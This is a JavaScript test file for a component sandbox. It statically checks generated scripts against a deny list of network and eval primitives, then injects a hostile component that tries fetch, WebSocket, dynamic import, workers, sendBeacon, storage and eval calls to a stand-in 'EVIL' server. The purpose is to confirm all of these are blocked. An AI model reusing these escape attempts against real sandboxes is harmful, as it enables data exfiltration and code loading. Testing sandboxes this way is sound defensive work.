// What the JavaScript of a component is, and what it could reach if a component's author had written it.

import assert from "node:assert/strict";
import { cpSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";

import { seal, walk } from "./bundle.mjs";
import { Page } from "./page.mjs";
import { serve } from "./serve.mjs";

const find = createRequire(join(process.cwd(), "package.json")).resolve;
const acorn = await import(pathToFileURL(find("acorn")).href);

/** The generator's own texts have these; names of a component have none of them. */
const PLAIN = /^[\x20-\x7e\n]*$/;
/** What no generated script names. */
const FOREIGN = ["indexedDB", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "BroadcastChannel", "Worker", "eval", "Function"];

/** Every node of a syntax tree. */
function* nodes(of) {
  if (Array.isArray(of)) for (const one of of) yield* nodes(one);
  else if (of !== null && typeof of === "object") {
    if (typeof of.type === "string") yield of;
    for (const [key, value] of Object.entries(of)) if (key !== "loc") yield* nodes(value);
  }
}

/** The scripts of all bundles, read by another parser: nothing in them is loaded or evaluated, and every text is plain. */
export async function scripts({ sites }) {
  const found = walk(sites).filter((path) => path.endsWith("/component.js"));
  assert.ok(found.length > 10);
  for (const path of found) {
    const tree = acorn.parse(readFileSync(path, "utf8"), { ecmaVersion: "latest", sourceType: "module" });
    for (const node of nodes(tree)) {
      assert.ok(!["ImportDeclaration", "ImportExpression", "WithStatement"].includes(node.type), `${path}: ${node.type}`);
      if (node.type === "Literal" && typeof node.value === "string") assert.match(node.value, PLAIN, path);
      if (node.type === "TemplateElement") assert.match(node.value.cooked, PLAIN, path);
      if (node.type === "Identifier") assert.ok(!FOREIGN.includes(node.name), `${path}: ${node.name}`);
    }
    const exports = tree.body.filter(({ type }) => type.startsWith("Export"));
    const exported = exports.flatMap(({ declaration }) => (declaration?.declarations ?? [declaration]).map((one) => one?.id.name));
    assert.deepEqual(exported, ["instantiate", "_util"], path);
  }
  console.log(`${found.length} scripts of components: the generator's exports, nothing loaded or evaluated`);
}

/** What a component's author would try. Each gives something, if it reaches anything. */
const TRIES = `{
  fetch: () => fetch(EVIL + "fetch", { mode: "no-cors" }),
  "fetch of the prototype": () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch(EVIL + "prototype"),
  "fetch of self": () => self.fetch(OWN),
  XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open("GET", EVIL + "xhr", false); request.send(); },
  WebSocket: () => new WebSocket(EVIL.replace("http", "ws")),
  WebTransport: () => new WebTransport(EVIL),
  EventSource: () => new EventSource(EVIL + "events"),
  importScripts: () => importScripts(EVIL + "script"),
  import: () => import(EVIL + "module.js"),
  "import of data": () => import("data:text/javascript,export default 1"),
  "import of the page": () => import(OWN + "assets/worker.js"),
  Worker: () => new Worker(EVIL + "worker"),
  "worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
  SharedWorker: () => new SharedWorker(OWN + "assets/worker.js"),
  indexedDB: () => indexedDB.open("graph-host"),
  caches: () => caches.keys(),
  files: () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.query(),
  beacon: () => navigator.sendBeacon(EVIL),
  BroadcastChannel: () => new BroadcastChannel("x"),
  postMessage: () => postMessage({ asked: 1, question: { ask: "request", grant: "{}" } }),
  "postMessage of the prototype": () => Object.getPrototypeOf(globalThis).postMessage({}),
  listeners: () => globalThis.addEventListener("message", () => 1),
  onmessage: () => { if (!("onmessage" in globalThis)) throw new Error(); },
  MessageChannel: () => new MessageChannel(),
  eval: () => (0, eval)("1"),
  Function: () => new Function("1")(),
  "function of a constructor": () => (async () => 1).constructor("1")(),
  notifications: () => Notification.permission,
  fonts: () => new FontFace("x", "url(" + EVIL + "font)").load(),
  names: () => { const names = Object.getOwnPropertyNames(globalThis).filter((name) => /fetch|socket|storage|channel|database|idb|request/i.test(name)); if (names.length === 0) throw new Error(); return names; },
}`;

/** Code of a component that got past all checks finds neither a network, nor the page's storage, nor the worker of the run. */
export async function confined({ browser, sites, scratch }) {
  const asked = [];
  const evil = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("export default 1;");
  });
  await new Promise((resolve) => evil.listen(0, resolve));
  const copy = join(scratch, "confined");
  rmSync(copy, { recursive: true, force: true });
  cpSync(join(sites, "approval"), copy, { recursive: true });
  const server = await serve(copy);
  const own = `http://localhost:${server.port}/`;
  const script = `const EVIL = "http://localhost:${evil.address().port}/", OWN = ${JSON.stringify(own)};
export async function instantiate() {
  const reached = [];
  for (const [name, use] of Object.entries(${TRIES})) try { await use(); reached.push(name); } catch {}
  throw new Error("reached: " + reached.join(", ") + ". a\\u{e0041}\\u{ad}\\u{3164}\\u{202e}b");
}`;
  for (const path of walk(copy).filter((path) => path.endsWith("/component.js"))) writeFileSync(path, script);
  seal(copy);
  try {
    const page = await Page.open(browser, own);
    const { status, output } = await page.run("stranger");
    assert.equal(status, "failed");
    assert.match(output, /reached: \./, output);
    // What nobody sees is shown escaped.
    assert.ok(output.includes("a\\u{e0041}\\u{ad}\\u{3164}\\u{202e}b"), output);
    assert.deepEqual(asked, []);
    await page.close();
    // The worker of the run is under the policy of the page: it asks its own server and what the manifest permits.
    const context = await browser.newContext();
    const opened = await context.newPage();
    await opened.goto(own);
    await opened.waitForFunction(() => document.getElementById("loading")?.hidden === true);
    const [worker] = opened.workers();
    const blocked = await worker.evaluate((url) => fetch(url, { mode: "no-cors" }).then(() => "reached", () => "blocked"), `http://localhost:${evil.address().port}/run`);
    assert.equal(blocked, "blocked");
    assert.deepEqual(asked, []);
    await context.close();
  } finally {
    server.close();
    evil.close();
  }
  console.log("code of a component reaches no network, no storage and no other worker");
}
